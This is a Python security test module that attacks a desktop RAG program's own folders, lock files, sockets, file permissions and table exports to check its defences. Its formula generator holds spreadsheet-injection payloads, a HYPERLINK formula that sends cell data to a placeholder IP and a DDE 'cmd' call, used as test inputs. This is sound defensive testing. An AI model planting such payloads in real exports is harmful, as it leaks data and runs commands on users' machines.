"""What lies around the program: folders, locks, sockets and addresses of others, and spreadsheets.

Everything is done to data folders of the attack's own, by the user who runs it; as root, another
user's folders are tried, too.
"""

from __future__ import annotations

import csv
import io
import json
import os
import random
import signal
import socket
import subprocess
import sys
import tempfile
import threading
import unicodedata
from collections.abc import Callable, Iterator
from contextlib import closing, contextmanager, suppress
from multiprocessing.connection import Client
from pathlib import Path
from unittest.mock import patch

from desktop_rag.core.errors import UserError
from desktop_rag.ipc import client, ownership
from tests.attacks.report import Attack, Report, Task
from tests.conftest import REPOSITORY
from tests.ipc.scripted_owner import SEARCH, Work, owner, sent
from tests.system.terminal import Terminal

_NOBODY = 65534
_OWNER = """
import sys
from pathlib import Path
from tests.ipc.scripted_owner import Work
from tests.ipc.scripted_owner import owner
held = owner(Path(sys.argv[1]), Work())
print("held", flush=True)
for line in sys.stdin:
    held._lock.require()
    print("required", flush=True)
"""
_TAKER = """
import sys
from pathlib import Path
from desktop_rag.ipc.ownership import FolderLock
lock = FolderLock(Path(sys.argv[1]))
print("taken" if lock.acquire() else "refused", flush=True)
sys.stdin.readline()
"""


def _a_file(name: Path) -> None:
    name.write_text("mine")


def _a_link(name: Path) -> None:
    name.with_name("elsewhere").mkdir(mode=0o700, exist_ok=True)
    name.symlink_to(name.with_name("elsewhere"))


def _a_loop(name: Path) -> None:
    name.symlink_to(name)


def _a_pipe(name: Path) -> None:
    os.mkfifo(name)


def _open_to_all(name: Path) -> None:
    name.mkdir()
    name.chmod(0o777)


def _another_user_s(name: Path) -> None:
    name.mkdir(mode=0o777)
    os.chown(name, _NOBODY, _NOBODY)


def _another_user_s_link(name: Path) -> None:
    _another_user_s(name.with_name("elsewhere"))
    name.symlink_to(name.with_name("elsewhere"))
    os.chown(name, _NOBODY, _NOBODY, follow_symlinks=False)


SQUATS: list[Callable[[Path], None]] = [
    _a_file, _a_link, _a_loop, _a_pipe, _open_to_all,
]  # fmt: skip


def squatted_names(report: Report, task: Task) -> None:
    """Hold the name of the folder for sockets, wherever it may be, and start."""
    if os.name != "posix":
        report.skipped = "Windows has pipes, not sockets."
        return
    squats = [*SQUATS, *([_another_user_s, _another_user_s_link] if os.getuid() == 0 else [])]
    for number, squat in enumerate(squats):
        for variable in ("XDG_RUNTIME_DIR", "TMPDIR"):
            for length in (0, 120):
                named = f"{squat.__name__[1:]}, {variable}, a path of {length} more"
                with report.attempt(named), _squatted(task, variable, squat) as place:
                    data_dir = task.folder / f"{number}{variable}{'x' * length}"
                    _expect_served(report, data_dir, place)
    with report.attempt("a real start beside another's folder"):
        place = task.folder / "real"
        place.mkdir()
        squats[-1](place / f"desktop-rag-{os.getuid()}")
        without = {"XDG_RUNTIME_DIR": "", "TMPDIR": str(place), "PYTHONPATH": str(REPOSITORY)}
        typed = Terminal(task.folder / "real home", is_forked=False).type("kb", "list", env=without)
        report.expect(typed.status == 0, typed.err)


@contextmanager
def _squatted(task: Task, variable: str, squat: Callable[[Path], None]) -> Iterator[Path]:
    """Hold the name in a place that the environment names, and in no other."""
    with tempfile.TemporaryDirectory(dir=task.folder) as made:
        squat(Path(made) / f"desktop-rag-{os.getuid()}")
        without = {key: value for key, value in os.environ.items() if key != "XDG_RUNTIME_DIR"}
        here = patch.dict(os.environ, without | {variable: made}, clear=True)
        with here, patch.object(tempfile, "tempdir", None):
            yield Path(made)


def _expect_served(report: Report, data_dir: Path, place: Path) -> None:
    with closing(owner(data_dir, Work())) as here:
        address = Path(here._address)
        squat = place / f"desktop-rag-{os.getuid()}"
        report.expect(address.parent != squat, "the other's folder was trusted")
        report.expect(ownership.is_private(address.parent), f"{address.parent} is open to others")
        report.expect(sent(data_dir, SEARCH)[-1] == {"end": 0}, "nobody is served")
    report.expect(not address.exists(), "the socket is left behind")


def _delete(path: Path) -> None:
    path.unlink(missing_ok=True)


def _replace(path: Path) -> None:
    fresh = path.with_name("fresh")
    fresh.write_text("")
    fresh.replace(path)


def _link_away(path: Path) -> None:
    path.unlink(missing_ok=True)
    path.symlink_to(path.with_name("elsewhere.lock"))


def _fill(path: Path) -> None:
    path.write_text("x" * 10_000)


def _close(path: Path) -> None:
    path.chmod(0o000)


def _make_folder(path: Path) -> None:
    path.unlink(missing_ok=True)
    path.mkdir()


LOCK_ATTACKS = [_delete, _replace, _link_away, _fill, _close, _make_folder]


def stolen_locks(report: Report, task: Task) -> None:
    """Do away with the lock's file under an owner, and let others try to take the folder."""
    if os.name != "posix":
        report.skipped = "Windows deletes no locked file."
        return
    for attack in LOCK_ATTACKS:
        for also in ("",) if task.is_quick else ("", "owner.json", "owner.key"):
            name = f"{attack.__name__[1:]} owner.lock" + (f", delete {also}" if also else "")
            with report.attempt(name):
                _steal(report, task.folder / name.replace(" ", "-"), attack, also)
    with report.attempt("many at once after a kill"):
        _race(report, task.folder / "race", 4 if task.is_quick else 12)


def _steal(report: Report, data_dir: Path, attack: Callable[[Path], None], also: str) -> None:
    with _process(_OWNER, data_dir) as (held, said):
        report.expect(said == "held", f"the owner did not begin: {said}")
        attack(data_dir / "owner.lock")
        if also:
            (data_dir / also).unlink()
        report.expect(not _is_free(data_dir), "a second start took the folder over")
        if attack is not _make_folder:
            report.expect(_asked(held) == "required", "the owner holds it no more")
        report.expect(not _is_free(data_dir), "a second start took the folder over afterwards")
        held.send_signal(signal.SIGKILL)
        held.wait()
    if attack is not _make_folder:
        report.expect(_is_free(data_dir), "a killed owner's lock is stale")


def _is_free(data_dir: Path) -> bool:
    """Say whether a start can take a folder; it gives it back."""
    lock = ownership.FolderLock(data_dir)
    try:
        return lock.acquire()
    except UserError:
        return False
    finally:
        lock.release()


def _race(report: Report, data_dir: Path, count: int) -> None:
    """Kill an owner, delete its lock's file, and let many start at the same time."""
    with _process(_OWNER, data_dir) as (held, _):
        held.send_signal(signal.SIGKILL)
        held.wait()
    (data_dir / "owner.lock").unlink()
    takers = [_started(_TAKER, data_dir) for _ in range(count)]
    said = []
    for each in takers:
        assert each.stdout is not None
        said.append(each.stdout.readline().strip())
    for each in takers:
        each.communicate("\n")
    report.expect(said.count("taken") == 1, f"of {count} starts {said.count('taken')} took it")


def _started(code: str, data_dir: Path) -> subprocess.Popen[str]:
    return subprocess.Popen(
        [sys.executable, "-c", code, str(data_dir)], stdin=subprocess.PIPE, text=True,
        stdout=subprocess.PIPE, stderr=subprocess.DEVNULL,
        env=os.environ | {"PYTHONPATH": str(REPOSITORY)},
    )  # fmt: skip


@contextmanager
def _process(code: str, data_dir: Path) -> Iterator[tuple[subprocess.Popen[str], str]]:
    """Run a process until the body is over; give what it said first."""
    process = _started(code, data_dir)
    assert process.stdout is not None
    try:
        yield process, process.stdout.readline().strip()
    finally:
        process.kill()
        process.communicate()


def _asked(process: subprocess.Popen[str]) -> str:
    assert process.stdin is not None
    assert process.stdout is not None
    process.stdin.write("\n")
    process.stdin.flush()
    return process.stdout.readline().strip()


def forged_addresses(report: Report, task: Task) -> None:
    """Write into the address's file what no owner writes, and start."""
    if os.name != "posix":
        report.skipped = "Windows has pipes, not sockets."
        return
    place = task.folder / "open"
    place.mkdir()
    place.chmod(0o777)
    with _hostile(place / "owner.sock") as heard:
        for name, content in _addresses(place).items():
            with report.attempt(name):
                data_dir = ownership.make_folder(task.folder / f"home {name}"[:40])
                (data_dir / "owner.json").write_bytes(content)
                with suppress(client.OwnerGone):
                    client.connect(data_dir).close()
                    report.expect(False, "somebody answered")
                lock = ownership.FolderLock(data_dir)
                report.expect(lock.acquire(), "the start is kept out")
                lock.release()
        report.expect(not heard, f"a socket that others can make was spoken to {len(heard)} times")


def _addresses(place: Path) -> dict[str, bytes]:
    def of(address: object) -> bytes:
        values = {"address": address, "pid": 1, "kind": "window", "protocol": 1}
        return json.dumps(values).encode()

    (place / "link.sock").symlink_to(place / "owner.sock")
    (place / "file.sock").write_text("")
    return {
        "another's socket": of(str(place / "owner.sock")),
        "a link to it": of(str(place / "link.sock")),
        "a file": of(str(place / "file.sock")),
        "a folder": of(str(place)),
        "a device": of("/dev/null"),
        "a very long path": of("/" + "x" * 5000),
        "an empty path": of(""),
        "a path with a zero": of("/tmp/\0.sock"),
        "an internet address": of("127.0.0.1:9"),
        "a number": of(7),
        "a lone surrogate": of("\ud800"),
        "no object": b"[]",
        "deep": b"[" * 5000,
        "large": b" " * 50_000_000,
        "random": random.Random(1).randbytes(4000),
    }


@contextmanager
def _hostile(path: Path) -> Iterator[list[bytes]]:
    """Listen as somebody who wants to be taken for the owner."""
    heard: list[bytes] = []
    with socket.socket(socket.AF_UNIX) as server:
        server.bind(str(path))
        server.listen()

        def listen() -> None:
            with suppress(OSError):
                while True:
                    connection, _ = server.accept()
                    heard.append(b"")
                    connection.close()

        thread = threading.Thread(target=listen, daemon=True)
        thread.start()
        yield heard
        with suppress(OSError):
            server.shutdown(socket.SHUT_RDWR)
        thread.join()


def garbage_on_the_socket(report: Report, task: Task) -> None:
    """Send an owner what is no call; it must serve the next one."""
    chance = random.Random(task.seed)
    data_dir = task.folder / "home"
    with closing(owner(data_dir, Work())) as here:
        for number in range(20 if task.is_quick else 300):
            with report.attempt(f"message {number}"):
                with suppress(OSError), closing(Client(here._address)) as connection:
                    for _ in range(chance.randrange(1, 4)):
                        connection.send_bytes(chance.randbytes(chance.choice((0, 1, 20, 70_000))))
                if not number % 5:
                    report.expect(sent(data_dir, SEARCH)[-1] == {"end": 0}, "serves no more")


def formulas(report: Report, task: Task) -> None:
    """Copy and export tables whose cells are formulas, and read them as a spreadsheet does."""
    os.environ.setdefault("QT_QPA_PLATFORM", "offscreen")
    from PySide6.QtGui import QGuiApplication

    application = QGuiApplication.instance() or QGuiApplication([])
    chance = random.Random(task.seed)
    made = [_cell(chance) for _ in range(150 if task.is_quick else 2000)]
    numbers = ["-3.5", "+7 %", "-1,5", "−2", "-1e-5", "+1 234,56 €", "-"]
    for cell in [*made, *numbers]:
        with report.attempt(repr(cell)):
            found = _carried(cell)
            bad = [each for each in found if cell not in numbers and _computes(each)]
            report.expect(not bad, f"computed: {bad!r}")
            if cell in numbers:
                report.expect(set(found) >= {cell}, f"a number is none any more: {found!r}")
    del application


def _cell(chance: random.Random) -> str:
    hidden = [
        "",
        " ",
        "\t",
        "\r",
        "\n",
        "\u00a0",
        "\u200b",
        "\ufeff",
        "\u2060",
        '"',
        "'",
        "“",
        "\x00",
    ]
    sign = chance.choice("=+-@＝＋－＠﹦﹢﹣﹫")
    before = "".join(chance.choices(hidden, k=chance.randrange(4)))
    first = chance.choice(["", "", "total\n", "a;", "a\t", "a\r", "a\u2028"])
    what = chance.choice(
        ['HYPERLINK("http://192.0.2.1/?"&A1)', "cmd|' /C calc'!A0", "SUM(A1:A9)", "1+1+A1", "A1"]
    )
    return f"{first}{before}{sign}{what}"


def _carried(cell: str) -> list[str]:
    """Return the cells that a spreadsheet finds in each of the forms that leave the program."""
    from PySide6.QtGui import QTextCursor, QTextDocument

    from desktop_rag.gui.chat import clipboard
    from desktop_rag.gui.clipboard_tables import as_table, selection_mime
    from desktop_rag.gui.lab.evaluation_jobs import csv_of

    line = " ".join(cell.split()).replace("|", "¦")
    forms = [as_table([[cell, "x"]]), clipboard.table(f"| a | b |\n|---|---|\n| {line} | x |\n")]
    document = QTextDocument()
    table = QTextCursor(document).insertTable(1, 2)
    table.cellAt(0, 0).firstCursorPosition().insertText(cell)
    cursor = QTextCursor(document)
    cursor.select(QTextCursor.SelectionType.Document)
    copied = selection_mime(cursor)
    found = [part for form in forms for part in _parts(form.text(), "\t")]
    for form in (*forms, copied):
        if form is not None:
            read = QTextDocument()
            read.setHtml(form.html())
            found += read.toPlainText().splitlines()
    for separator in ",;\t":
        found += _parts(csv_of([{"way": cell, "score": 1.0}]), separator)
    return found


def _parts(text: str, separator: str) -> list[str]:
    reader = csv.reader(io.StringIO(text.replace("\0", ""), newline=""), delimiter=separator)
    return [part for row in reader for cell in row for part in cell.splitlines()]


def _computes(cell: str) -> bool:
    """Say whether a spreadsheet takes a cell for a formula, after blanks and quotes."""
    for char in cell:
        if char in ('"', "“") or unicodedata.category(char)[0] in "ZC":
            continue
        return unicodedata.normalize("NFKC", char) in tuple("=+-@")
    return False


def open_rights(report: Report, task: Task) -> None:
    """Run the program under an umask that keeps nothing from anybody."""
    if os.name != "posix":
        report.skipped = "Windows has no modes."
        return
    terminal = Terminal(task.folder / "home", is_forked=False)
    (task.folder / "note.md").write_text("# The harbour\n\nIt was built in 1802.\n")
    here = {"PYTHONPATH": str(REPOSITORY)}
    before = os.umask(0)
    try:
        for words in (("index", str(task.folder / "note.md")), ("search", "harbour"), ("doctor",)):
            with report.attempt(" ".join(words[:1])):
                terminal.type(*words, env=here)
                lax = [e.name for e in terminal.home.rglob("*") if e.lstat().st_mode & 0o077]
                report.expect(terminal.home.is_dir(), "nothing was written")
                report.expect(not lax, f"open to others: {lax}")
    finally:
        os.umask(before)


ATTACKS = (
    Attack("names that others hold", squatted_names),
    Attack("a lock's file taken away", stolen_locks),
    Attack("forged addresses of the owner", forged_addresses),
    Attack("garbage on the owner's socket", garbage_on_the_socket),
    Attack("formulas for a spreadsheet", formulas),
    Attack("rights in the data folder", open_rights),
)
